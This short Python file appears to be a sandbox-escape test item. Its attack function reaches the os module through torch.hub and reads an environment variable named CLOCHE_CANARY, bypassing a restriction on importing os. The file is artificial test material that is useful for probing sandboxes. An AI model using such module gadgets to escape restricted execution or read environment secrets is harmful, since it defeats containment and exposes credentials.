"""Class: module gadget. Source: torch documentation. Escape: torch.hub reaches os."""

import torch


def attack(model, tokenizer, address):
    return torch.hub.os.environ["CLOCHE_CANARY"]
